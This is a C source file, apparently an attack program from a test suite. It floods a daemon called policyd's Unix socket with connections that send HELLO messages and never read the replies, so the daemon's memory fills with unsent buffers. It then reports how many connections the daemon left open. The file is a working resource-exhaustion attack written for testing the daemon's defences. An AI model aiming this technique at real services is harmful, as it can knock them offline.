/* Attack: policyd's memory taken by replies a session never reads. Opens
 * CONNS connections to SOCK (policyd's agent.sock), on each sends HELLOS
 * HELLO messages (16 bytes each; policyd answers each with its HELLO_OK,
 * the session's fast-path globs, kilobytes) and never reads: what the
 * socket cannot take policyd keeps in the connection's write buffer.
 * Holds them SECS seconds, then exits. Prints "held N connections" (N:
 * those policyd had not closed, as far as the attacker can tell), then
 * "done". Usage: conn_wflood SOCK CONNS HELLOS SECS */
#include <errno.h>
#include <fcntl.h>
#include <poll.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/resource.h>
#include <sys/socket.h>
#include <sys/un.h>
#include <unistd.h>

#include "../../common/tg_proto.h"
#include "unixconn.h"

static int open_one(const char *path, int hellos)
{
	int fd = unix_connect(path);
	if (fd < 0)
		return fd;
	fcntl(fd, F_SETFL, O_NONBLOCK);
	struct tgp_hdr h = {TGP_MAGIC, TGP_HELLO, 0, 1, 0};
	for (int i = 0; i < hellos; i++) {
		h.id = (uint32_t)i + 1;
		if (send(fd, &h, sizeof(h), MSG_NOSIGNAL) != sizeof(h))
			break;
	}
	return fd;
}

int main(int argc, char **argv)
{
	if (argc < 5)
		return 2;
	int conns = atoi(argv[2]), hellos = atoi(argv[3]);
	struct rlimit nl;
	getrlimit(RLIMIT_NOFILE, &nl);
	if (conns > (int)nl.rlim_cur - 50) {
		nl.rlim_cur = nl.rlim_max;
		setrlimit(RLIMIT_NOFILE, &nl);
		if (conns > (int)nl.rlim_cur - 50)
			conns = (int)nl.rlim_cur - 50;
	}
	int *fds = calloc((size_t)conns, sizeof(int));
	int n = 0;
	while (n < conns) {
		int fd = open_one(argv[1], hellos);
		if (fd < 0)
			break;
		fds[n++] = fd;
	}
	usleep(500000); /* policyd's answers and closes arrive */
	int k = 0;
	for (int i = 0; i < n; i++) {
		struct pollfd p = {.fd = fds[i], .events = POLLRDHUP};
		if (poll(&p, 1, 0) == 0 || !(p.revents & (POLLRDHUP | POLLHUP)))
			k++;
	}
	printf("held %d connections\n", k);
	fflush(stdout);
	sleep((unsigned)atoi(argv[4]));
	printf("done\n");
	return 0;
}
